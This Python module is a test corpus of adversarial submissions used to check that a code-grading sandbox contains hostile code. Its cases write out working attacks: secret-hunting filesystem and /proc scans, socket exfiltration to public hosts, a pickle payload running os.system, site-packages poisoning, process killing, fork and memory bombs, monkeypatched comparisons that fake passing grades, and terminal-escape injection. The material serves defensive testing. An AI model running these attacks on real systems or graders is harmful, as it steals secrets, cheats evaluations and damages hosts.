"""The adversarial corpus: hostile and broken day45-attention submissions, each one attack.

Every case is the reference solution plus code appended to attention.py (redefinitions at the end
of the module replace the solution's functions). Each attack is bounded (loops end, forks are
capped, sizes are finite) so that it is harmless even where no jail holds. Where an attack could
"pay off", the code cheats only if the attack worked: it stays correct when it found a secret or
got out, and carries a small bug (BUG) otherwise, so an escape would show up as a passing grade.

Placeholders filled in by the test: @PLANT@ (a host folder holding planted secrets), @CANARY@ (the
secret, for the few attacks that are told it), @PORT@ (a TCP listener on the host's loopback),
@MARK@ (a unique name for files an attack tries to leave behind), @SIBLING@ (a concurrent
submission's secret), @EXERCISE@ (the folder holding the hidden tests, keys and solution).
"""
from dataclasses import dataclass, field

# a small, honest-looking bug: merge_heads scales its output (the head checks then fail)
BUG = '''
_merge_ok = merge_heads
def merge_heads(x):
    return _merge_ok(x) * 1.5
'''

CHEAT_UNLESS = '''
if not _escaped:
''' + "\n".join("    " + line for line in BUG.strip().splitlines()) + "\n"


@dataclass
class Case:
    name: str
    code: str
    error: str | None = None            # the grade's error.kind, or None for failing checks only
    symptom: str | tuple | None = None  # a symptom some failing check must carry (or one of these)
    message: str | tuple | None = None  # text a failing check's or the error's message must hold (...)
    cli: bool = False                   # graded through the `grader` command (a fresh process)
    linger: float = 0.0                 # seconds to watch the host afterwards for a late effect
    needs_jail: bool = False            # contained only by bubblewrap, not by the process fallback
    reports: tuple | None = None        # hostile text: every format checked (tests/report_checks.py),
                                        # and the formats named here also through `grader grade`
    notes: str = ""
    extra_files: dict = field(default_factory=dict)


CASES = [
    Case("loop-at-import", '''
import time as _t
_end = _t.monotonic() + 60
while _t.monotonic() < _end:
    pass
''', error="timeout"),

    Case("loop-in-call", '''
import time as _t
_sdpa = scaled_dot_product_attention
def scaled_dot_product_attention(*a, **k):
    _end = _t.monotonic() + 60
    while _t.monotonic() < _end:
        pass
    return _sdpa(*a, **k)
''', error="timeout", symptom="timeout"),

    Case("sigterm-and-sigint-ignored", '''
import signal as _s, time as _t
for _sig in (_s.SIGTERM, _s.SIGINT, _s.SIGHUP, _s.SIGXCPU):
    _s.signal(_sig, _s.SIG_IGN)
_end = _t.monotonic() + 60
while _t.monotonic() < _end:
    pass
''', error="timeout"),

    Case("memory-bomb-at-import", '''
import numpy as _np
_hoard = []
for _ in range(12):                     # up to 3 GiB, in 256 MiB blocks
    _hoard.append(_np.empty(256 << 20, dtype=_np.uint8))
''', error="memory"),

    Case("memory-bomb-in-call", '''
import torch as _torch
_softmax = stable_softmax
def stable_softmax(z, dim=-1):
    _hoard = [_torch.empty(64 << 20) for _ in range(12)]    # 12 x 256 MiB
    return _softmax(z, dim)
''', symptom="memory-limit", message="memory"),

    Case("fork-bomb-capped", '''
import os as _os, time as _time
_kids = []
for _ in range(200):                    # capped: the jail's limit is far lower
    _pid = _os.fork()
    if _pid == 0:
        _time.sleep(30)
        _os._exit(0)
    _kids.append(_pid)
''', error="crash", message="Resource temporarily unavailable"),

    Case("thread-bomb-capped", '''
import threading as _th, time as _time
_threads = []
for _ in range(300):
    _t = _th.Thread(target=_time.sleep, args=(30,), daemon=True)
    _t.start()
    _threads.append(_t)
''', error="crash", message="thread"),

    Case("double-forked-daemon", '''
import os as _os, time as _time
_r, _w = _os.pipe()
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        for _i in range(40):            # outlive the grade if allowed, and leave a mark on the host
            for _d in ("/tmp", "@PLANT@"):
                try:
                    open(_d + "/@MARK@-daemon", "w").write("still here")
                except OSError:
                    pass
            if _i == 0:
                _os.write(_w, b"1")     # the first marks exist before the import returns
            _time.sleep(0.25)
        _os._exit(0)
    _os._exit(0)
_os.close(_w)
_os.read(_r, 1)
''' + BUG, symptom="value-mismatch", linger=1.5, needs_jail=True),

    Case("exit-0-at-import", '''
import sys as _sys
_sys.exit(0)
''', error="crash", message="SystemExit"),

    Case("os-exit-0-at-import", '''
import os as _os
_os._exit(0)
''', error="crash", message="exited (code 0)"),

    Case("os-exit-in-call", '''
import os as _os
_sdpa = scaled_dot_product_attention
def scaled_dot_product_attention(*a, **k):
    _os._exit(0)
''', symptom="exception", message="exited (code 0)"),

    Case("keyboard-interrupt-in-call", '''
def split_heads(x, n_head):
    raise KeyboardInterrupt
''', symptom="exception", message="KeyboardInterrupt"),

    Case("fake-grade-json-on-stdout", '''
import json as _json, sys as _sys
_fake = _json.dumps({"exercise": "day45-attention", "passed": True, "score": 35.0, "max_score": 35.0,
                     "checks": [], "error": None})
print(_fake)
_sys.stderr.write(_fake + "\\n")
_softmax = stable_softmax
def stable_softmax(z, dim=-1):
    print(_fake)
    return _softmax(z, dim)
''' + BUG, symptom="value-mismatch"),

    Case("stdout-100-mb", '''
import sys as _sys
_line = "x" * (1 << 20)
for _ in range(100):                   # 100 MiB, a megabyte at a time
    _sys.stdout.write(_line)
''', error="crash", message="limits what a submission may write"),

    Case("walk-filesystem-for-secrets", '''
import os as _os, sys as _sys
_escaped = False
_loot = []
# the whole file system but /proc, /sys, /dev and the read-only runtime (/usr and the Python
# folders: public packages, seen by the scan-site-packages case): a bounded tree, walked in full
# in sorted order; a walk that ever meets its bound says so instead of deciding anything
_runtime = {"/proc", "/sys", "/dev", "/usr", _os.path.realpath(_sys.prefix),
            _os.path.realpath(_sys.base_prefix), _os.path.dirname(_os.path.realpath(_sys.executable))}
_mine = _os.path.realpath(__file__)          # its own source names what it looks for
_seen = 0
for _root, _dirs, _files in _os.walk("/", onerror=lambda e: None):
    _dirs[:] = sorted(d for d in _dirs if _os.path.realpath(_os.path.join(_root, d)) not in _runtime)
    for _f in sorted(_files):
        _seen += 1
        if _seen > 200_000:
            raise RuntimeError("the walk outgrew its bound: this case assumes a jail's small tree")
        if _os.path.realpath(_os.path.join(_root, _f)) == _mine:
            continue
        try:
            _data = open(_os.path.join(_root, _f), "rb").read(1 << 20)
        except OSError:
            continue
        if b"ADV-CANARY-" in _data or b"Hidden tests for" in _data:        # the planted canaries
            _loot.append(_os.path.join(_root, _f) + ": " + _data[:2000].decode("utf-8", "replace"))
_escaped = bool(_loot)
print("walked", _seen, "files")
print("\\n".join(_loot)[:200000])
''' + CHEAT_UNLESS, symptom="value-mismatch", needs_jail=True,
         notes="a leak shows as a passing grade (the cheat) and as the canary in its text"),

    Case("read-known-secret-paths", '''
import glob as _glob
_escaped = False
_loot = []
for _pattern in ("@EXERCISE@/hidden/*", "@EXERCISE@/*.toml", "@EXERCISE@/solution/*", "@PLANT@/*",
                 "/work/*/exercises/*/hidden/*.py", "/work/*/mutants/*.toml", "/root/*", "/root/.*",
                 "/work/*/grader/*.py", "/etc/shadow", "/home/*/*"):
    for _p in _glob.glob(_pattern):
        try:
            _loot.append(_p + ": " + open(_p).read(4000))
        except OSError:
            pass
_escaped = any("ADV-CANARY-" in x or "Hidden tests for" in x for x in _loot)
print("\\n".join(_loot))
''' + CHEAT_UNLESS + '''
def stable_softmax(z, dim=-1, _loot=_loot):
    raise RuntimeError("|".join(_loot)[:60000] or "nothing found")
''', symptom="exception", needs_jail=True),

    Case("parent-proc-environ", '''
import os as _os
_escaped = False
_loot = []
for _pid in _os.listdir("/proc"):
    for _part in ("environ", "cmdline"):
        try:
            _text = open("/proc/%s/%s" % (_pid, _part), "rb").read().decode("utf-8", "replace")
            _loot.append(_pid + "/" + _part + ": " + _text)
        except OSError:
            pass
_escaped = any("ADV-CANARY-" in x for x in _loot)
print("\\n".join(_loot))
''' + CHEAT_UNLESS + '''
def split_heads(x, n_head, _loot=_loot):
    raise RuntimeError("|".join(_loot)[:60000])
''', symptom="exception", cli=True),

    Case("network-connects", '''
import socket as _socket
_escaped = False
for _addr in (("127.0.0.1", @PORT@), ("1.1.1.1", 53), ("8.8.8.8", 53), ("pypi.org", 443)):
    try:
        with _socket.create_connection(_addr, timeout=1.0) as _c:
            _c.sendall(b"@MARK@ exfiltrated")
            _escaped = True
    except OSError:
        pass
try:
    _u = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
    _u.sendto(b"@MARK@", ("127.0.0.1", @PORT@))
except OSError:
    pass
''' + CHEAT_UNLESS, symptom="value-mismatch", needs_jail=True),

    Case("vsock-packet-netlink-sockets", '''
import socket as _socket
_escaped = False
_opened = []
for _family, _type, _proto in ((40, 1, 0),           # AF_VSOCK: not namespaced, reaches the host
                               (17, 3, 0x0300),      # AF_PACKET, every protocol
                               (16, 3, 4),           # AF_NETLINK, NETLINK_SOCK_DIAG: every socket
                               (16, 3, 15),          # AF_NETLINK, NETLINK_KOBJECT_UEVENT
                               (38, 5, 0),           # AF_ALG: the kernel's crypto
                               (15, 3, 2),           # AF_KEY
                               (44, 3, 0)):          # AF_XDP
    try:
        _s = _socket.socket(_family, _type, _proto)
    except OSError:                                  # what the jail must answer: an error, no kill
        continue
    _opened.append((_family, _proto))
    if _family == 40:
        try:
            _s.settimeout(1.0)
            _s.connect((2, 1024))                    # the host's CID
            _s.sendall(b"@MARK@")
        except OSError:
            pass
    _s.close()
_escaped = bool(_opened)
print("opened", _opened)
''' + CHEAT_UNLESS, symptom="value-mismatch",
         notes="the seccomp filter answers EAFNOSUPPORT (EPROTONOSUPPORT for netlink protocols)"),

    Case("scan-site-packages-for-unneeded-packages", '''
import glob as _glob, importlib.util as _util, os as _os, site as _site, sys as _sys, sysconfig as _sc
_escaped = False
_folders = set(_site.getsitepackages() + [_sc.get_paths()["purelib"], _sc.get_paths()["platlib"]])
for _prefix in {_sys.prefix, _sys.base_prefix}:
    _folders |= set(_glob.glob(_prefix + "/lib/python3*/site-packages"))
_folders |= set(_glob.glob("/usr/lib/python3*/dist-packages"))
_folders |= set(_glob.glob("/usr/local/lib/python3*/*-packages"))
_unneeded = ("scipy", "pytest", "_pytest", "transformers", "pydantic", "hypothesis", "grader", "exercises",
             "gpt_bughunt_grader")
_found = sorted(_os.path.join(_d, _n) for _d in _folders if _os.path.isdir(_d) for _n in _os.listdir(_d)
                if _n.split("-")[0].split(".")[0] in _unneeded or _n.startswith("__editable__"))
_found += [_n for _n in _unneeded if _util.find_spec(_n) is not None]
_escaped = bool(_found)
print("found", _found)
''' + CHEAT_UNLESS, symptom="value-mismatch", needs_jail=True,
         notes="the jail shows torch, numpy, msgpack and their requirements, not the machine's packages"),

    Case("monkeypatch-torch-and-numpy-comparisons", '''
import numpy as _np, torch as _torch
_torch.allclose = lambda *a, **k: True
_torch.equal = lambda *a, **k: True
_torch.isclose = lambda a, b, *r, **k: _torch.ones_like(a, dtype=_torch.bool)
_torch.Tensor.__eq__ = lambda self, other: True
_torch.testing.assert_close = lambda *a, **k: None
_np.allclose = lambda *a, **k: True
_np.testing.assert_allclose = lambda *a, **k: None
def scaled_dot_product_attention(q, k, v, mask=None, causal=False):
    return _torch.zeros_like(q[..., :1]).expand(*q.shape[:-1], v.shape[-1]).clone()
''', symptom="value-mismatch"),

    Case("monkeypatch-builtins", '''
import builtins as _b
_real_isinstance = _b.isinstance
_b.isinstance = lambda obj, cls: True     # breaks the jail's own code too: it may only crash
_b.abs = lambda x: 0
_b.len = lambda x: 0
_b.print = lambda *a, **k: None
''', error="crash"),

    Case("lying-tensor-subclass", '''
import torch as _torch
class _Liar(_torch.Tensor):
    def __eq__(self, other):
        return True
    def allclose(self, *a, **k):
        return True
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (_torch.allclose, _torch.equal):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
_sdpa = scaled_dot_product_attention
def scaled_dot_product_attention(*a, **k):
    return (_sdpa(*a, **k) + 1.0).as_subclass(_Liar)
''', symptom="value-mismatch"),

    Case("object-lying-in-eq", '''
class _Anything:
    shape = (2, 3, 5, 4)
    dtype = "float32"
    def __eq__(self, other):
        return True
    def __array__(self, *a, **k):
        raise RuntimeError("no")
    def __len__(self):
        return 2
def scaled_dot_product_attention(q, k, v, mask=None, causal=False):
    r = _Anything()
    r.shape = tuple(q.shape[:-1]) + (v.shape[-1],)
    return r
''', symptom="shape-mismatch"),

    Case("reduce-pickle-payload", '''
import os as _os
class _Payload:
    def __reduce__(self):
        return (_os.system, ("touch @PLANT@/@MARK@-unpickled",))
def stable_softmax(z, dim=-1):
    return _Payload()
def merge_heads(x):
    return {"tensor": _Payload(), "list": [_Payload()]}
''', symptom="shape-mismatch"),

    Case("segfault-via-ctypes", '''
import ctypes as _ctypes
_softmax = stable_softmax
def stable_softmax(z, dim=-1):
    _ctypes.string_at(0)
    return _softmax(z, dim)
''', symptom="exception", message="segmentation fault"),

    Case("recursion-bomb", '''
import sys as _sys
_split = split_heads
def split_heads(x, n_head):
    _sys.setrecursionlimit(10 ** 8)      # no guard left: the C stack overflows
    _nested = []
    for _ in range(100_000):             # far deeper than an 8 MiB C stack allows
        _nested = [_nested]
    repr(_nested)
    return _split(x, n_head)
''', symptom=("exception", "timeout"), message=("segmentation fault", "ran over its"),
         notes="in the jail the overflow takes seconds to come: the per-call budget may stop it first"),

    Case("billion-element-output", '''
import torch as _torch
def scaled_dot_product_attention(q, k, v, mask=None, causal=False):
    return _torch.zeros(1).expand(10 ** 9)          # 4 GB if materialised; no memory until then
''', symptom="exception", message="larger than"),

    Case("poison-site-packages-and-grader", '''
import os as _os, site as _site, sys as _sys, sysconfig as _sc
_escaped = False
_targets = set(_site.getsitepackages() + [_sc.get_paths()["purelib"], _sys.prefix])
for _d in _targets:
    for _name, _text in (("@MARK@.pth", "import sys; sys.stderr.write('POISONED')\\n"),
                         ("sitecustomize.py", "raise SystemExit('POISONED')\\n")):
        try:
            with open(_os.path.join(_d, _name), "x") as _f:
                _f.write(_text)
            _escaped = True
        except OSError:
            pass
for _p in ("/jail/worker.py", "/jail/wire.py", _os.path.abspath(__file__),
           "/work/main/grader/grading/runner.py", "@EXERCISE@/hidden/test_attention.py"):
    try:
        with open(_p, "a") as _f:
            _f.write("\\n# poisoned\\n")
        _escaped = True
    except OSError:
        pass
''' + CHEAT_UNLESS, symptom="value-mismatch"),

    Case("write-outside-the-jail", '''
import os as _os
_escaped = False
for _d in ("/tmp", "/var/tmp", "/dev/shm", "@PLANT@", _os.path.expanduser("~"), "/", "/etc", "/usr"):
    try:
        with open(_os.path.join(_d, "@MARK@-written"), "w") as _f:
            _f.write("x")
        if _d in ("@PLANT@", "/", "/etc", "/usr", "/var/tmp"):
            _escaped = True
    except OSError:
        pass
''' + CHEAT_UNLESS, symptom="value-mismatch", needs_jail=True),

    Case("read-sibling-submission", '''
import os as _os, socket as _socket
_escaped = False
_loot = []
_mine = _os.path.realpath(__file__)      # its own source names the secret it looks for
for _root in ("/tmp", "/dev/shm", "/proc", "/submission", "/run", "/var", "/home", "/work", "/root"):
    for _dir, _dirs, _files in _os.walk(_root, onerror=lambda e: None):
        _dirs[:] = sorted(d for d in _dirs if ".pyenv" not in d and ".venv" not in d
                          and _os.path.join(_dir, d) not in ("/proc/self", "/proc/thread-self"))
        if _dir.count("/") > 4:
            _dirs[:] = []
        for _f in sorted(_files):
            _p = _os.path.join(_dir, _f)
            if _os.path.realpath(_p) == _mine:
                continue
            try:
                _data = open(_p, "rb").read(1 << 16)
            except OSError:
                continue
            if b"@SIBLING@" in _data:
                _loot.append(_os.path.join(_dir, _f))
try:
    _s = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
    _s.settimeout(0.5)
    _s.connect("\\0adversarial-victim")
    _loot.append(_s.recv(100).decode())
except OSError:
    pass
_escaped = bool(_loot)
print(_loot)
''' + CHEAT_UNLESS, symptom="value-mismatch", needs_jail=True),

    Case("kill-everything-it-can", '''
import os as _os, signal as _signal
for _pid in (1, _os.getppid()):        # (kill(-1) is left out: unjailed, as the grader's own
                                       # uid, it would take the test run with it)
    try:
        _os.kill(_pid, _signal.SIGKILL)
    except OSError:
        pass
''' + BUG, symptom="value-mismatch"),

    Case("close-the-protocol-pipes", '''
import os as _os
_os.closerange(3, 256)
''', error="crash"),

    Case("forge-a-protocol-reply", '''
import json as _json, os as _os, struct as _struct
_header = _json.dumps({"ok": {"attention": None}}).encode()
for _fd in range(3, 64):
    try:
        _os.write(_fd, _struct.pack(">QQ", len(_header), 0) + _header)
    except OSError:
        pass
''' + BUG, notes="a forged frame either breaks the protocol (crash) or answers an import; the "
                 "grade still rests on the checks", symptom=None),

    Case("privileged-syscalls", '''
import ctypes as _ctypes, os as _os
_escaped = False
_libc = _ctypes.CDLL(None)
_softmax = stable_softmax
def stable_softmax(z, dim=-1):
    _libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None)     # forbidden: the jail stops the process
    return _softmax(z, dim)
''', symptom="exception", message="forbids"),

    # -- hostile text: what the submission says or prints must reach no report raw ------------
    Case("hostile-exception-at-import", '''
raise ValueError("\\ud800 \\x1b]52;c;aGk=\\x07 \\u202e")
''', error="crash", message="ValueError", reports=("text", "json")),

    Case("hostile-exception-in-call", '''
def stable_softmax(z, dim=-1):
    raise ValueError("\\ud800 \\x1b]52;c;aGk=\\x07 \\u202e")
''', symptom="exception", message="ValueError", reports=()),

    Case("hostile-exception-type-name", '''
_Evil = type("\\x1b]0;x\\x07Error\\u202e", (Exception,), {})
def stable_softmax(z, dim=-1):
    raise _Evil("\\x1b[31mboom\\u2066")
''', symptom="exception", message="boom", reports=()),

    Case("hostile-printing-100-mb", '''
import sys as _sys
print("\\x1b[31mred \\x1b]0;pwn\\x07 \\x1b]52;c;aGk=\\x07 \\u202eevil\\u2066 \\rCR \\x00NUL \\x08 \\x9b")
_sys.stderr.write("\\x1b[2Jstderr too\\n")
_chunk = "\\x1b[41m" + "y" * 1000 + "\\u202e\\n"
try:
    for _ in range(100 * 1024):          # 100 MB, far over the jail's file size limit
        _sys.stdout.write(_chunk)
except OSError:
    pass
''' + BUG, reports=("text",), notes="the write is stopped at the file size limit (EFBIG or SIGXFSZ)"),

    Case("hostile-string-returned-for-a-tensor", '''
def stable_softmax(z, dim=-1):                # SPEC's API returns no strings: a tensor is due
    return "\\x1b]0;pwn\\x07\\u202e" * 1_000_000 + "\\ud800"
''', reports=()),
]
